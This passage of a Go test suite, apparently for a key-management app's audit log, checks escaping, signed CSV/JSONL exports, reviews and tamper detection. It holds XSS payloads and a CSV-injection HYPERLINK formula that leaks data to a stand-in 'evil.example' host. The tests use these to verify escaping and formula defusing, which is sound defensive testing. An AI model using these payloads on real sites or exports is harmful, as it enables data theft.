	c.signup("Alice Co", "alice@example.com")
	id := c.masterID()
	if r := c.with("User-Agent", "DetailsBrowser/2.0").submit("/keys", "/keys/"+id+"/rename", url.Values{"name": {"Detail Name"}}); r.status != http.StatusSeeOther {
		t.Fatalf("rename: %d", r.status)
	}
	r := c.get("/audit?action=key.renamed")
	rows := auditRowsOf(t, r)
	if len(rows) != 1 {
		t.Fatalf("%d key.renamed rows, want 1", len(rows))
	}
	row, e := rows[0], f.entry(rows[0].ID)
	if e.Action != models.ActionKeyRenamed || row.Action != "key.renamed" {
		t.Fatalf("row #%d: action %q (db %q)", row.ID, row.Action, e.Action)
	}
	if !auditHex64.MatchString(row.Hash) || row.Hash != e.Hash {
		t.Fatalf("row hash %q, want the entry's 64-hex hash %q", row.Hash, e.Hash)
	}
	if row.Details != e.Details {
		t.Fatalf("row details %q, want %q", row.Details, e.Details)
	}
	var d map[string]any
	if err := json.Unmarshal([]byte(row.Details), &d); err != nil || d["from"] != "Alice Co" || d["to"] != "Detail Name" {
		t.Fatalf("details JSON %q (%v): want from/to names", row.Details, err)
	}
	if row.Target != "Detail Name" || row.TargetRef != "apikey "+id || row.UA != "DetailsBrowser/2.0" || row.IP != "127.0.0.1" {
		t.Fatalf("row %+v", row)
	}
	if row.Actor != "alice@example.com" {
		t.Fatalf("row actor %q", row.Actor)
	}
	// The details are inside a collapsed <details>: one per row.
	if n := r.doc.Find(`[data-testid="audit-row"] details[data-testid="audit-details"]:not([open]) [data-testid="audit-hash"]`).Length(); n != 1 {
		t.Fatalf("%d collapsed detail blocks with a hash, want 1", n)
	}
}

func TestAuditEscapesUserSuppliedText(t *testing.T) {
	t.Parallel()
	f := newAuditFixture(t)
	c := f.client()
	c.signup("Alice Co", "alice@example.com")
	id := c.masterID()
	const evil = `<script>alert(1)</script>`
	const evilUA = `<img src=x onerror=alert(2)>`
	if r := c.with("User-Agent", evilUA).submit("/keys", "/keys/"+id+"/rename", url.Values{"name": {evil}}); r.status != http.StatusSeeOther {
		t.Fatalf("rename: %d", r.status)
	}
	for _, tc := range []struct {
		q       string
		matches bool
	}{
		{"", true},
		{"?target=" + url.QueryEscape("<script>"), true},
		{"?actor=" + url.QueryEscape(`"><script>alert(3)</script>`), false},
	} {
		q := tc.q
		r := c.get("/audit" + q)
		if r.status != http.StatusOK {
			t.Fatalf("GET /audit%s: %d", q, r.status)
		}
		if tc.matches {
			if !strings.Contains(r.body, "&lt;script&gt;alert(1)&lt;/script&gt;") {
				t.Fatalf("GET /audit%s: the escaped name is not on the page", q)
			}
			rows := auditRowsOf(t, r)
			found := false
			for _, row := range rows {
				if row.Target == evil && row.UA == evilUA {
					found = true
				}
			}
			if !found {
				t.Fatalf("GET /audit%s: no row shows the name and user agent as text", q)
			}
		}
		r.doc.Find("script").Each(func(_ int, s *goquery.Selection) {
			if strings.Contains(s.Text(), "alert(") {
				t.Fatalf("GET /audit%s: a script element runs %q", q, s.Text())
			}
		})
		if r.has(`img[onerror]`) || strings.Contains(r.body, evil) || strings.Contains(r.body, evilUA) {
			t.Fatalf("GET /audit%s: user text is in the HTML unescaped", q)
		}
	}
}

// ---- Export ----

type auditCheckpoint struct {
	seq, entry            uint64
	hash, link, signature string
}

// auditParseCSV checks the export response and splits the CSV into data
// records; the file is pure CSV, the signed head is in a header.
func auditParseCSV(t *testing.T, r *resp) ([][]string, auditCheckpoint) {
	t.Helper()
	if r.status != http.StatusOK {
		t.Fatalf("export: status %d\n%s", r.status, r.body)
	}
	if ct := r.header.Get("Content-Type"); !strings.HasPrefix(ct, "text/csv") {
		t.Fatalf("export Content-Type %q, want text/csv", ct)
	}
	cp := auditCheckpointHeader(t, r)
	if cd := r.header.Get("Content-Disposition"); !strings.HasPrefix(cd, "attachment;") || !strings.Contains(cd, `filename="keydesk-audit-`+strconv.FormatUint(cp.entry, 10)+`.csv"`) {
		t.Fatalf("export Content-Disposition %q", cd)
	}
	rd := csv.NewReader(strings.NewReader(r.body))
	recs, err := rd.ReadAll() // every record has the header's field count
	if err != nil {
		t.Fatalf("export is not pure CSV: %v\n%s", err, r.body)
	}
	header := []string{"id", "time_utc", "actor_type", "actor", "actor_role", "account_id", "action", "target_type", "target_id",
		"target_name", "ip", "user_agent", "details", "prev_hash", "hash"}
	if len(recs) < 2 || !slices.Equal(recs[0], header) {
		t.Fatalf("export header row %v", recs[0])
	}
	data := recs[1:]
	for _, rec := range data {
		if strings.HasPrefix(rec[0], "#") {
			t.Fatalf("a record that is not data: %v", rec)
		}
	}
	if got := r.trailer.Get("X-Keydesk-Export-Rows"); got != strconv.Itoa(len(data)) {
		t.Fatalf("trailer X-Keydesk-Export-Rows %q, the file has %d rows", got, len(data))
	}
	return data, cp
}

var auditHeadRE = regexp.MustCompile(`^seq=(\d+); entry=(\d+); link=([0-9a-f]{64}); hash=([0-9a-f]{64}); at=(\S+); kid=([0-9a-f]{16}); anchor=([0-9a-f]*); sig=([0-9a-f]{64})$`)

// auditCheckpointHeader reads X-Keydesk-Audit-Head and the other headers
// every export carries, and checks the signature with the test audit key.
func auditCheckpointHeader(t *testing.T, r *resp) auditCheckpoint {
	t.Helper()
	if cc := r.header.Get("Cache-Control"); !strings.Contains(cc, "no-store") {
		t.Fatalf("export Cache-Control %q, want no-store", cc)
	}
	m := auditHeadRE.FindStringSubmatch(r.header.Get("X-Keydesk-Audit-Head"))
	if m == nil {
		t.Fatalf("X-Keydesk-Audit-Head %q", r.header.Get("X-Keydesk-Audit-Head"))
	}
	seq, _ := strconv.ParseUint(m[1], 10, 64)
	id, _ := strconv.ParseUint(m[2], 10, 64)
	at, err := time.Parse(time.RFC3339Nano, m[5])
	if err != nil {
		t.Fatalf("head time %q", m[5])
	}
	h := models.AuditHead{Seq: seq, Entry: id, Link: m[3], Hash: m[4], At: at, KeyID: m[6], Anchor: m[7], Sig: m[8]}
	if !models.VerifyAuditHead(&h, testdb.AuditKey) {
		t.Fatal("the head signature does not verify with the audit key")
	}
	if forged := h; true {
		forged.Entry++
		if models.VerifyAuditHead(&forged, testdb.AuditKey) {
			t.Fatal("a head with another entry verifies")
		}
	}
	if u := r.header.Get("X-Keydesk-Audit-Head-URL"); u != "/audit/heads/"+m[1] {
		t.Fatalf("X-Keydesk-Audit-Head-URL %q", u)
	}
	return auditCheckpoint{seq: seq, entry: id, hash: m[4], link: m[3], signature: m[8]}
}

func auditCSVIDs(t *testing.T, recs [][]string) []uint64 {
	t.Helper()
	ids := make([]uint64, len(recs))
	for i, rec := range recs {
		id, err := strconv.ParseUint(rec[0], 10, 64)
		if err != nil {
			t.Fatalf("record ID %q", rec[0])
		}
		ids[i] = id
	}
	return ids
}

func TestAuditExportCSVMatchesThePageAndIsSigned(t *testing.T) {
	t.Parallel()
	f := newAuditFixture(t)
	c := f.client()
	c.signup("Alice Co", "alice@example.com")
	id := c.masterID()
	// Formulas in a key name and a user agent (CSV injection).
	const formula = `=HYPERLINK("http://evil.example/?leak="&A1,"Click")`
	if r := c.with("User-Agent", "-2+3").submit("/keys", "/keys/"+id+"/rename", url.Values{"name": {formula}}); r.status != http.StatusSeeOther {
		t.Fatalf("rename: %d", r.status)
	}
	if r := c.submit("/keys", "/keys/"+id+"/rename", url.Values{"name": {"@SUM(1+1)"}}); r.status != http.StatusSeeOther {
		t.Fatalf("rename: %d", r.status)
	}
	f.renames(f.actor("alice@example.com", "198.51.100.7"), 5, 1, "Name")
	exported := func() int {
		n := 0
		for _, e := range f.entries() {
			if e.Action == models.ActionAuditExported {
				n++
			}
		}
		return n
	}

	// Only POST with a CSRF token exports, and refusals write nothing.
	if r := c.get("/audit/export?format=csv"); r.status != http.StatusMethodNotAllowed && r.status != http.StatusNotFound {
		t.Fatalf("GET /audit/export: %d, want 405 or 404", r.status)
	}
	if r := c.post("/audit/export?format=csv", url.Values{}); r.status != http.StatusForbidden || strings.Contains(r.body, "hash") {
		t.Fatalf("POST without CSRF token: %d", r.status)
	}
	if r := c.post("/audit/export?format=csv", url.Values{"_csrf": {"forged"}}); r.status != http.StatusForbidden {
		t.Fatalf("POST with a wrong token: %d", r.status)
	}
	for _, q := range []string{"format=xml", "", "format=CSV", "format=csv&ip=nope"} {
		if r := c.submit("/audit", "/audit/export?"+q, nil); r.status != http.StatusBadRequest || r.header.Get("X-Keydesk-Audit-Head") != "" {
			t.Fatalf("export ?%s: status %d, want 400", q, r.status)
		}
	}
	if n := exported(); n != 0 {
		t.Fatalf("refused exports wrote %d audit.exported entries", n)
	}

	// The page's CSV form, for a filter of two actions.
	page := c.get("/audit?action=key.renamed&action=secret.revealed")
	pageIDs := auditIDs(auditRowsOf(t, page))
	if len(pageIDs) < 8 {
		t.Fatalf("fixture: %d rows", len(pageIDs))
	}
	action := auditExportAction(t, page, "csv")
	r := c.submit("/audit", action, nil)
	recs, cp := auditParseCSV(t, r)
	if got := auditCSVIDs(t, recs); !slices.Equal(got, pageIDs) {
		t.Fatalf("export rows %v, page rows %v", got, pageIDs)
	}
	for _, rec := range recs {
		// Every column is the entry's as the table holds it (the export
		// reads only the columns it writes: a column left out shows here).
		e := f.entry(auditUint(t, rec[0]))
		account := ""
		if e.AccountID != nil {
			account = strconv.FormatUint(uint64(*e.AccountID), 10)
		}
		want := []string{strconv.FormatUint(e.ID, 10), e.At.UTC().Format(time.RFC3339Nano), e.ActorType, e.ActorLabel, e.ActorRole,
			account, e.Action, e.TargetType, e.TargetID, e.TargetName, e.IP, e.UserAgent, e.Details, e.PrevHash, e.Hash}
		for i := range want {
			if w := want[i]; w != "" && strings.ContainsRune("=+-@\t\r", rune(w[0])) {
				want[i] = "'" + w // defused (below)
			}
		}
		if !slices.Equal(rec, want) {
			t.Fatalf("record %q does not match entry %+v (want %q)", rec, e, want)
		}
		if rec[6] != "key.renamed" && rec[6] != "secret.revealed" {
			t.Fatalf("record of action %s outside the filter", rec[6])
		}
	}
	// The export is audited, and the checkpoint is its own entry.
	head := f.entry(cp.entry)
	if head.Action != models.ActionAuditExported || head.Hash != cp.hash || head.ActorLabel != "alice@example.com" {
		t.Fatalf("checkpoint entry #%d: %+v", cp.entry, head)
	}
	var d struct {
		Format string
		Filter struct{ Actions []string }
	}
	if err := json.Unmarshal([]byte(head.Details), &d); err != nil || d.Format != "csv" || !slices.Equal(d.Filter.Actions, []string{"key.renamed", "secret.revealed"}) {
		t.Fatalf("audit.exported details %s", head.Details)
	}
	if n := exported(); n != 1 {
		t.Fatalf("%d audit.exported entries after one export", n)
	}
	if rows := auditRowsOf(t, c.get("/audit?action=audit.exported")); len(rows) != 1 || rows[0].ID != cp.entry {
		t.Fatalf("the export's entry on the page: %+v", rows)
	}

	// Spreadsheet formulas are defused; the text is otherwise intact.
	var sawFormula, sawAt, sawUA bool
	for _, rec := range recs {
		for i, field := range rec {
			if field != "" && strings.ContainsRune("=+-@\t\r", rune(field[0])) {
				t.Errorf("record #%s field %s starts with a formula character: %q", rec[0], auditCSVColumn(i), field)
			}
		}
		sawFormula = sawFormula || rec[9] == "'"+formula
		sawAt = sawAt || rec[9] == "'@SUM(1+1)"
		sawUA = sawUA || rec[11] == "'-2+3"
	}
	if !sawFormula || !sawAt || !sawUA {
		t.Fatalf("formula cells not prefixed with a quote (=%v @%v UA %v)", sawFormula, sawAt, sawUA)
	}
}

func auditCSVColumn(i int) string {
	return []string{"id", "time_utc", "actor_type", "actor", "actor_role", "account_id", "action", "target_type", "target_id",
		"target_name", "ip", "user_agent", "details", "prev_hash", "hash"}[i]
}

func auditUint(t *testing.T, s string) uint64 {
	t.Helper()
	n, err := strconv.ParseUint(s, 10, 64)
	if err != nil {
		t.Fatalf("not a number: %q", s)
	}
	return n
}

func TestAuditExportJSONLines(t *testing.T) {
	t.Parallel()
	f := newAuditFixture(t)
	c := f.client()
	c.signup("Alice Co", "alice@example.com")
	f.renames(f.actor("alice@example.com", "198.51.100.7"), 4, 1, "Name")
	page := c.get("/audit?action=key.renamed&ip=198.51.100.7")
	pageIDs := auditIDs(auditRowsOf(t, page))
	if len(pageIDs) != 4 {
		t.Fatalf("fixture: %d rows", len(pageIDs))
	}
	r := c.submit("/audit", auditExportAction(t, page, "jsonl"), nil)
	if r.status != http.StatusOK {
		t.Fatalf("status %d", r.status)
	}
	if ct := r.header.Get("Content-Type"); ct != "application/x-ndjson" {
		t.Fatalf("Content-Type %q", ct)
	}
	cp := auditCheckpointHeader(t, r)
	if cd := r.header.Get("Content-Disposition"); !strings.HasPrefix(cd, "attachment;") || !strings.HasSuffix(cd, `.jsonl"`) {
		t.Fatalf("Content-Disposition %q", cd)
	}
	if !strings.HasSuffix(r.body, "\n") {
		t.Fatal("the last line is not terminated")
	}
	lines := strings.Split(strings.TrimSuffix(r.body, "\n"), "\n")
	var ids []uint64
	for _, line := range lines[:len(lines)-1] {
		dec := json.NewDecoder(strings.NewReader(line))
		dec.DisallowUnknownFields()
		var e struct {
			ID         uint64          `json:"id"`
			Time       string          `json:"time"`
			ActorType  string          `json:"actor_type"`
			Actor      string          `json:"actor"`
			ActorRole  string          `json:"actor_role"`
			AccountID  *uint           `json:"account_id"`
			Action     string          `json:"action"`
			TargetType string          `json:"target_type"`
			TargetID   string          `json:"target_id"`
			TargetName string          `json:"target_name"`
			IP         string          `json:"ip"`
			UserAgent  string          `json:"user_agent"`
			Details    json.RawMessage `json:"details"`
			PrevHash   string          `json:"prev_hash"`
			Hash       string          `json:"hash"`
		}
		if err := dec.Decode(&e); err != nil {
			t.Fatalf("line %q: %v", line, err)
		}
		db := f.entry(e.ID)
		var det map[string]any
		if e.Action != "key.renamed" || e.Hash != db.Hash || e.IP != "198.51.100.7" || e.Actor != "alice@example.com" ||
			json.Unmarshal(e.Details, &det) != nil || det["to"] == nil {
			t.Fatalf("line %q does not match entry %+v", line, db)
		}
		ids = append(ids, e.ID)
	}
	if !slices.Equal(ids, pageIDs) {
		t.Fatalf("JSONL ids %v, page %v", ids, pageIDs)
	}
	var trailer struct {
		Type   string `json:"type"`
		Seq    uint64 `json:"seq"`
		Entry  uint64 `json:"entry"`
		Link   string `json:"link"`
		Hash   string `json:"hash"`
		At     string `json:"at"`
		KeyID  string `json:"kid"`
		Anchor string `json:"anchor"`
		Sig    string `json:"sig"`
		Rows   int    `json:"rows"`
	}
	if err := json.Unmarshal([]byte(lines[len(lines)-1]), &trailer); err != nil || trailer.Type != "head" {
		t.Fatalf("last line %q is not the typed head trailer (%v)", lines[len(lines)-1], err)
	}
	if trailer.Seq != cp.seq || trailer.Entry != cp.entry || trailer.Hash != cp.hash || trailer.Link != cp.link || trailer.Sig != cp.signature || trailer.Rows != len(ids) {
		t.Fatalf("trailer %+v, header %+v, %d rows", trailer, cp, len(ids))
	}
	// The signature download is the same head.
	sig := c.get("/audit/heads/" + strconv.FormatUint(cp.seq, 10))
	var dl models.AuditHead
	if sig.status != http.StatusOK || json.Unmarshal([]byte(sig.body), &dl) != nil || dl.Sig != cp.signature || !models.VerifyAuditHead(&dl, testdb.AuditKey) {
		t.Fatalf("GET /audit/heads/%d: %d %s", cp.seq, sig.status, sig.body)
	}
	if r := c.get("/audit/heads/999999"); r.status != http.StatusNotFound {
		t.Fatalf("an unknown head: %d", r.status)
	}
	if e := f.entry(cp.entry); e.Action != models.ActionAuditExported || !strings.Contains(e.Details, `"format":"jsonl"`) {
		t.Fatalf("checkpoint entry %+v", e)
	}
}

// TestAuditExportStreamsLargeResults pages through more than one store
// batch (1000) and flushes while writing.
func TestAuditExportStreamsLargeResults(t *testing.T) {
	t.Parallel()
	if testing.Short() {
		t.Skip("short")
	}
	f := newAuditFixture(t)
	c := f.client()
	c.signup("Alice Co", "alice@example.com")
	f.renames(f.actor("alice@example.com", "198.51.100.7"), 1105, 50, "N")
	r := c.submit("/audit", "/audit/export?format=csv&action=key.renamed", nil)
	recs, _ := auditParseCSV(t, r)
	want := f.expect(func(e models.AuditEntry) bool { return e.Action == models.ActionKeyRenamed })
	if got := auditCSVIDs(t, recs); !slices.Equal(got, want) {
		t.Fatalf("export of %d renames has %d rows", len(want), len(got))
	}
}

// A server-wide write timeout far shorter than the export does not cut it:
// the deadline moves with each batch (issue 13, item 4).
func TestAuditExportOutlivesTheServerWriteTimeout(t *testing.T) {
	t.Parallel()
	f := newAuditFixture(t)
	c := f.client()
	c.signup("Alice Co", "alice@example.com")
	f.renames(f.actor("alice@example.com", "198.51.100.7"), 2100, 100, "N")
	tiny := httptest.NewUnstartedServer(f.web.Echo)
	tiny.Config.WriteTimeout = time.Millisecond
	tiny.Start()
	t.Cleanup(tiny.Close)
	for _, format := range []string{"csv", "jsonl"} {
		tok := c.csrf("/audit")
		req, _ := http.NewRequest(http.MethodPost, tiny.URL+"/audit/export?format="+format+"&action=key.renamed",
			strings.NewReader(url.Values{"_csrf": {tok}}.Encode()))
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		r := c.do(req)
		want := f.expect(func(e models.AuditEntry) bool { return e.Action == models.ActionKeyRenamed })
		if format == "csv" {
			recs, _ := auditParseCSV(t, r)
			if got := auditCSVIDs(t, recs); len(got) != len(want) {
				t.Fatalf("csv export under a 1 ms write timeout: %d rows of %d", len(got), len(want))
			}
			continue
		}
		lines := strings.Split(strings.TrimSuffix(r.body, "\n"), "\n")
		if r.status != http.StatusOK || len(lines) != len(want)+1 || !strings.Contains(lines[len(lines)-1], `"type":"head"`) {
			t.Fatalf("jsonl export under a 1 ms write timeout: status %d, %d lines for %d entries", r.status, len(lines), len(want))
		}
	}
}

// An export that lasts longer than every server timeout (the client reads
// it late, so the server waits on full socket buffers) is not cut: not by
// the write timeout (the export moves its deadline with each batch), not
// by the read timeouts (the connection's background read while the
// handler runs); on a plain listener and on serve's, whose connections
// set deadlines lazily (web.LazyDeadlines, issue 13 #1).
func TestAuditExportOutlivesEveryServerTimeout(t *testing.T) {
	t.Parallel()
	f := newAuditFixture(t)
	c := f.client()
	c.signup("Alice Co", "alice@example.com")
	f.renames(f.actor("alice@example.com", "198.51.100.7"), 2100, 100, "N")
	want := f.expect(func(e models.AuditEntry) bool { return e.Action == models.ActionKeyRenamed })
	for _, lazy := range []bool{false, true} {
		tiny := httptest.NewUnstartedServer(f.web.Echo)
		tiny.Config.ReadHeaderTimeout, tiny.Config.ReadTimeout = 50*time.Millisecond, 50*time.Millisecond
		tiny.Config.WriteTimeout, tiny.Config.IdleTimeout = time.Millisecond, 10*time.Second
		if lazy {
			tiny.Listener = web.LazyDeadlines(tiny.Listener)
		}
		tiny.Start()
		t.Cleanup(tiny.Close)
		tok := c.csrf("/audit")
		req, _ := http.NewRequest(http.MethodPost, tiny.URL+"/audit/export?format=csv&action=key.renamed",
			strings.NewReader(url.Values{"_csrf": {tok}}.Encode()))
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		start := time.Now()
		res, err := c.http.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		time.Sleep(200 * time.Millisecond) // four read timeouts
		body, err := io.ReadAll(res.Body)
		res.Body.Close()
		rows := strings.Count(string(body), "\n") - 1
		if err != nil || res.StatusCode != http.StatusOK || rows != len(want) || res.Trailer.Get("X-Keydesk-Export-Rows") != strconv.Itoa(len(want)) {
			t.Fatalf("lazy deadlines %v: export over %v: status %d, %d rows of %d, trailer %q, %v",
				lazy, time.Since(start), res.StatusCode, rows, len(want), res.Trailer.Get("X-Keydesk-Export-Rows"), err)
		}
	}
}

// A client that goes away mid-export is not a server error.
func TestAuditExportClientDisconnectIsNotAnError(t *testing.T) {
	t.Parallel()
	logs := &testdb.LogBuffer{}
	f := &auditFixture{t: t, app: newApp(t, func(cfg *web.Config) { cfg.Logger = slog.New(slog.NewTextHandler(logs, nil)) })}
	c := f.client()
	c.signup("Alice Co", "alice@example.com")
	f.renames(f.actor("alice@example.com", "198.51.100.7"), 3000, 100, "N")
	tok := c.csrf("/audit")
	ctx, cancel := context.WithCancel(context.Background())
	req, _ := http.NewRequestWithContext(ctx, http.MethodPost, f.srv.URL+"/audit/export?format=csv",
		strings.NewReader(url.Values{"_csrf": {tok}}.Encode()))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	res, err := c.http.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	buf := make([]byte, 4096)
	if _, err := io.ReadFull(res.Body, buf); err != nil {
		t.Fatal(err)
	}
	cancel() // the client goes away
	res.Body.Close()
	for deadline := time.Now().Add(20 * time.Second); !strings.Contains(logs.String(), "path=/audit/export"); time.Sleep(10 * time.Millisecond) {
		if time.Now().After(deadline) {
			t.Fatalf("no access log line for the export:\n%s", logs.String())
		}
	}
	out := logs.String()
	if strings.Contains(out, "level=ERROR") || strings.Contains(out, "status=500") {
		t.Fatalf("a client disconnect was logged as an error:\n%s", out)
	}
	if !strings.Contains(out, "status=499") {
		t.Fatalf("the disconnect is not logged as 499:\n%s", out)
	}
}

// ---- Reviews ----

func TestAuditReviews(t *testing.T) {
	t.Parallel()
	f := newAuditFixture(t)
	alice, bob := f.client(), f.client()
	alice.signup("Alice Co", "alice@example.com")
	bob.signup("Bob Co", "bob@example.com")
	aliceActor := f.actor("alice@example.com", "198.51.100.7")
	f.renames(aliceActor, 3, 1, "Name")
	reviews := func() int64 {
		var n int64
		testdb.Must(t, f.store.DB().Model(&models.AuditReview{}).Count(&n))
		return n
	}

	r := alice.get("/audit")
	aliceHead := f.expect(auditInTree(f.tree(aliceActor.AccountID)))[0]
	if got := norm(r.text(`[data-testid="review-status"]`)); !strings.HasPrefix(got, "Not reviewed yet.") {
		t.Fatalf("review status before any review: %q", got)
	}
	total := len(f.expect(auditInTree(f.tree(aliceActor.AccountID))))
	if got := norm(r.text(`[data-testid="new-since-review"]`)); got != fmt.Sprintf("%d new entries", total) {
		t.Fatalf("new-since before any review: %q, want %d", got, total)
	}
	through, _ := r.doc.Find(`[data-testid="review-form"] input[name="through"]`).Attr("value")
	if through != strconv.FormatUint(aliceHead, 10) {
		t.Fatalf("review form through %q, want Alice's head #%d", through, aliceHead)
	}
	if got := norm(r.text(`[data-testid="mark-reviewed"]`)); got != "Mark reviewed through #"+through {
		t.Fatalf("review button %q", got)
	}

	// Bad input: 400 / 404, nothing recorded.
	bobEntry := f.expect(auditInTree(f.tree(f.actor("bob@example.com", "").AccountID)))[0]
	for _, tc := range []struct {
		through string
		status  int
	}{
		{"0", 400}, {"", 400}, {"abc", 400}, {"-1", 400}, {"1.5", 400}, {"99999999999999999999999", 400},
		{"18446744073709551615", 400}, {"9223372036854775808", 400},
		{strconv.FormatUint(bobEntry, 10), 404}, {strconv.FormatUint(1<<40, 10), 404},
	} {
		if r := alice.submit("/audit", "/audit/reviews", url.Values{"through": {tc.through}}); r.status != tc.status {
			t.Errorf("review through %q: status %d, want %d", tc.through, r.status, tc.status)
		}
	}
	if r := alice.submit("/audit", "/audit/reviews", url.Values{"through": {through}, "note": {strings.Repeat("n", 501)}}); r.status != http.StatusUnprocessableEntity {
		t.Errorf("a 501-character note: status %d, want 422", r.status)
	} else {
		// The refused review comes back as the audit page with the form, the
		// note kept, and the field marked invalid with its message (issue 11
		// #6: errors in place, focus on the first invalid field).
		note := r.doc.Find(`[data-testid="review-form"] input[name="note"]`)
		if note.Length() != 1 {
			t.Errorf("a 501-character note: the answer has no review form")
		} else {
			if v, _ := note.Attr("value"); v != strings.Repeat("n", 501) {
				t.Errorf("a 501-character note: the note was not kept (value %q)", v)
			}
			if inv, _ := note.Attr("aria-invalid"); inv != "true" {
				t.Errorf("a 501-character note: the field is not marked aria-invalid")
			}
			id, _ := note.Attr("aria-describedby")
			if id == "" || strings.TrimSpace(r.doc.Find("#"+id).Text()) == "" {
				t.Errorf("a 501-character note: no inline error message tied to the field")
			}
		}
	}
	if r := alice.post("/audit/reviews", url.Values{"through": {through}}); r.status != http.StatusForbidden {
		t.Errorf("review without CSRF token: status %d, want 403", r.status)
	}
	if n := reviews(); n != 0 {
		t.Fatalf("%d reviews recorded by refused requests", n)
	}

	// The owner reviews through the head.
	r = alice.submit("/audit", "/audit/reviews", url.Values{"through": {through}, "note": {"weekly <check>"}})
	if r.status != http.StatusSeeOther || r.header.Get("Location") != "/audit?done=reviewed" {
		t.Fatalf("review: status %d, Location %q", r.status, r.header.Get("Location"))
	}
	r = alice.get("/audit?done=reviewed")
	if got := r.text(`main [role="status"]`); got != "Review recorded." {
		t.Errorf("notice %q", got)
	}
	status := norm(r.text(`[data-testid="review-status"]`))
	if want := "Last review through #" + through + " by alice@example.com (just now): “weekly <check>”. 0 new entries since."; status != want {
		t.Fatalf("review status %q, want %q", status, want)
	}
	if rows := auditRowsOf(t, alice.get("/audit?action=audit.reviewed")); len(rows) != 1 || rows[0].Target != "through #"+through || rows[0].Actor != "alice@example.com" {
		t.Fatalf("the review's audit entry: %+v", rows)
	}
	// More activity raises the count; time passes in the status.
	f.clock.Advance(2 * time.Hour)
	f.renames(f.actor("alice@example.com", "198.51.100.7"), 2, 0, "Later")
	if r := alice.login("alice@example.com", testPassword); r.status != http.StatusSeeOther {
		t.Fatalf("login: %d", r.status)
	}
	r = alice.get("/audit")
	if got := norm(r.text(`[data-testid="new-since-review"]`)); got != "3 new entries" { // 2 renames, login (not her own review)
		t.Fatalf("new since review after more activity: %q", got)
	}
	if got := norm(r.text(`[data-testid="review-status"]`)); !strings.Contains(got, "by alice@example.com (2 hours ago)") {
		t.Fatalf("review status later: %q", got)
	}

	// An auditor reviews the whole log; it does not count as Alice's.
	aud := f.staff(models.RoleAuditor, "aud@keydesk.example")
	r = aud.get("/audit")
	if got := norm(r.text(`[data-testid="review-status"]`)); !strings.HasPrefix(got, "Not reviewed yet.") {
		t.Fatalf("auditor sees Alice's review as theirs: %q", got)
	}
	audThrough, ok := r.doc.Find(`[data-testid="review-form"] input[name="through"]`).Attr("value")
	if !ok {
		t.Fatal("no review form for the auditor")
	}
	if es := f.entries(); audThrough != strconv.FormatUint(es[len(es)-1].ID, 10) {
		t.Fatalf("auditor's review form through %s, want the global head", audThrough)
	}
	if r := aud.submit("/audit", "/audit/reviews", url.Values{"through": {audThrough}}); r.status != http.StatusSeeOther {
		t.Fatalf("auditor review: %d", r.status)
	}
	if got := norm(aud.get("/audit").text(`[data-testid="review-status"]`)); !strings.HasPrefix(got, "Last review through #"+audThrough+" by aud@keydesk.example") {
		t.Fatalf("auditor's review status %q", got)
	}
	if got := norm(alice.get("/audit").text(`[data-testid="review-status"]`)); !strings.Contains(got, "by alice@example.com") {
		t.Fatalf("Alice's review status after the auditor's review: %q", got)
	}

	// Support can read the log but not mark it reviewed.
	sup := f.staff(models.RoleSupport, "sup@keydesk.example")
	r = sup.get("/audit")
	if r.status != http.StatusOK || r.has(`[data-testid="review-form"]`) {
		t.Fatalf("support's audit page: status %d, review form %v", r.status, r.has(`[data-testid="review-form"]`))
	}
	before := reviews()
	if r := sup.submit("/audit", "/audit/reviews", url.Values{"through": {audThrough}}); r.status != http.StatusForbidden {
		t.Fatalf("support POST /audit/reviews: %d, want 403", r.status)
	}
	if n := reviews(); n != before || n != 2 {
		t.Fatalf("%d reviews after support's refused one, want 2 (Alice's and the auditor's)", n)
	}
}

// ---- Chain status ----

func TestAuditChainStatusOnThePage(t *testing.T) {
	t.Parallel()
	f := newAuditFixture(t)
	c := f.client()
	c.signup("Alice Co", "alice@example.com")
	alice := f.actor("alice@example.com", "198.51.100.7")
	f.renames(alice, 5, 1, "Name")
	aud := f.staff(models.RoleAuditor, "aud@keydesk.example")

	page := c.get("/audit")
	if got := page.text(`[data-testid="chain-status"]`); got != "Chain verification pending" {
		t.Fatalf("before any verification: %q", got)
	}
	if got := norm(page.text(`[data-testid="anchor-status"]`)); got != "No signed head yet." {
		t.Fatalf("before any head: %q", got)
	}
	head, err := f.store.SealAuditHead(auditCtx, "test")
	if err != nil || head == nil {
		t.Fatalf("seal: %+v %v", head, err)
	}
	rep, ran, err := f.store.CheckAudit(auditCtx)
	if err != nil || !ran || !rep.OK {
		t.Fatalf("clean log: %+v %v %v", rep, ran, err)
	}
	want := fmt.Sprintf("✓ Chain verified through entry #%d at %s", rep.Head, rep.VerifiedAt.UTC().Format("2006-01-02 15:04 UTC"))
	if got := norm(c.get("/audit").text(`[data-testid="chain-status"]`)); got != want {
		t.Fatalf("chain status %q, want %q", got, want)
	}
	wantAnchor := fmt.Sprintf("Newest signed head: entry #%d at %s (just now). The database holds nothing newer.", head.Entry, head.At.UTC().Format("2006-01-02 15:04 UTC"))
	if got := norm(aud.get("/audit").text(`[data-testid="anchor-status"]`)); got != wantAnchor {
		t.Fatalf("anchor status %q, want %q", got, wantAnchor)
	}
	// Two entries later the panel says how far the database is ahead.
	f.renames(alice, 2, 1, "Later")
	wantAnchor = fmt.Sprintf("The database holds 2 entries after it (through #%d).", head.Entry+2)
	if got := norm(c.get("/audit").text(`[data-testid="anchor-status"]`)); !strings.HasSuffix(got, wantAnchor) {
		t.Fatalf("anchor status %q, want it to end %q", got, wantAnchor)
	}

	// Someone with database rights edits the newest (unsigned) entry.
	testdb.AllowTampering(t, f.store)
	if err := f.store.DB().Exec("UPDATE audit_entries SET ip = ? WHERE id = ?", "10.6.6.6", head.Entry+2).Error; err != nil {
		t.Fatal(err)
	}
	rep, _, err = f.store.CheckAudit(auditCtx)
	if err != nil || rep.OK || rep.BadEntry != head.Entry+2 {
		t.Fatalf("tampered log: %+v %v", rep, err)
	}
	bad := fmt.Sprintf("entry #%d was altered", head.Entry+2)
	for who, cl := range map[string]*client{"owner": c, "auditor": aud} {
		r := cl.get("/audit")
		st := r.doc.Find(`[data-testid="chain-status"]`)
		if role, _ := st.Attr("role"); role != "alert" {
			t.Fatalf("%s: the broken chain is not an alert", who)
		}
		if got := norm(st.Text()); !strings.HasPrefix(got, "The audit chain does not verify.") || !strings.Contains(got, bad) {
